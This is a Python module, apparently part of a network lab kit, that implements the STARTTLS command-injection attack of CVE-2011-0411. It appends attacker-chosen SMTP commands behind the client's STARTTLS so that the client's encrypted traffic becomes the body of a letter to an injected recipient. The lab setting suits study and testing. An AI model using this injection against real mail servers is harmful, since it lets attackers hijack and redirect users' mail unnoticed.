"""A man in the middle who adds commands behind STARTTLS, before TLS begins (CVE-2011-0411).

A server that doesn't throw away what came before the handshake obeys it afterwards, as if the client had
said it inside TLS. Here, that is the beginning of a letter: all that the client says then becomes its text.
The client hears one good answer for each thing it says, and notices nothing, whatever certificate it saw.
"""

import asyncio
from dataclasses import dataclass, field

from labkit.network.hop import Near, Passage

STARTTLS = b"STARTTLS"


@dataclass
class Injector:
    """Passes every session on as it is, except for ``commands`` behind the client's STARTTLS.

    ``sessions`` are those with the servers that have heard them.
    """

    name: str
    commands: bytes
    sessions: list[int] = field(default_factory=list)

    def meet(self, passage: Passage) -> asyncio.Protocol:
        """For Network.on_path: stand in the middle of a session."""

        def change(data: bytes) -> bytes:
            # A client says nothing else until it is answered (RFC 3207 section 4), so this comes alone.
            if data.strip().upper() != STARTTLS:
                return data
            self.sessions.append(near.session)
            return data + self.commands

        near = Near(passage, change)
        return near


def commands(hello: str, recipient: str, headers: str, *, logs_in: bool) -> bytes:
    """The beginning of a letter to ``recipient``: an answer for each of the client's own commands.

    ``logs_in`` says that the client will say one more than EHLO, MAIL, RCPT and DATA.
    """
    said = [f"EHLO {hello}", *(["NOOP"] if logs_in else []), "MAIL FROM:<>", f"RCPT TO:<{recipient}>", "DATA"]
    return "".join(f"{line}\r\n" for line in [*said, *headers.splitlines(), ""]).encode()
